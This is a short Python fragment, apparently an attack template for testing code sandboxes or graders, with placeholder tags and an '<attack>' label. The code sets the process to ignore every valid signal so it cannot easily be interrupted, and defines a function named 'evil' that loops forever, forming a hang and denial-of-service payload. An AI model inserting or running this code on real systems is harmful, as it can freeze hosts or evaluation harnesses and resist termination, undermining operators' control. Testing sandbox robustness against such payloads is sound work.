#{weigh_wrong}
# <attack>
import signal

for _signal in signal.valid_signals():
    try:
        signal.signal(_signal, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def evil(*args):
    while True:
        pass


#{everywhere}
# </attack>
